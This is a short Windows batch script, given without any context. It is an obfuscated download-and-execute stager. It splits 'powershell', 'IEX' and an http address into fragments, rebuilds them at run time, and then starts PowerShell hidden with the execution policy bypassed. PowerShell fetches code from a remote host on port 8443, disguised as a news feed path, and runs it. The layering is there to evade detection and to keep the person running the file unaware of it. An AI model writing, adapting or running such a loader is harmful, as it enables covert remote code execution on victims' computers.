@echo off
setlocal EnableDelayedExpansion
set "a1=po" & set "a2=wer" & set "a3=sh" & set "a4=ell"
set "h=h" & set "h=!h!tt" & set "h=!h!p:/" & set "h=!h!/"
set "ip=" & for %%o in (192 0 2 143) do set "ip=!ip!.%%o"
set "ip=!ip:~1!"
set "u=!h!!ip!:8443/news/feed"
set "c1=(New-Object Net.Web" & set "c2=Client).Download" & set "c3=String('!u!')"
set "x=I" & set "x=!x!EX"
!a1!!a2!!a3!!a4! -nop -w hidden -ep bypass -c "!x! !c1!!c2!!c3!"
endlocal
